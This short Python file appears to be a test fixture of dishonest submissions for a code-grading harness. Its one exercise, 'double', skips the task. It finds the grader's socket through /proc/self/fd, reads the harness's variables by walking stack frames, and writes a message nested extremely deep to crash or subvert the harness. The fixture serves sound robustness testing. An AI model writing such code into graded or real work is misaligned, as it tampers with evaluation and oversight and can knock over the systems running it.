"""Writes a frame that is nested a million deep."""

from __future__ import annotations

HONEST = 0

EXERCISES = {
    "double": r"""
import os, struct
def connection():
    for number in range(3, 64):
        try:
            if os.readlink(f"/proc/self/fd/{number}").startswith("socket"):
                return number
        except OSError:
            pass
    for number in range(3, 64):
        try:
            os.fstat(number)
            return number
        except OSError:
            pass

import sys
def double(x):
    frame = sys._getframe()
    while "number" not in frame.f_locals:
        frame = frame.f_back
    body, count = b"", 100_000
    data = b"".join(b"l" + struct.pack("<Q", 9 * (count - i)) for i in range(count + 1))
    data = memoryview(struct.pack("<I", frame.f_locals["number"]) + data)
    while data:
        data = data[os.write(connection(), data):]
""",
}
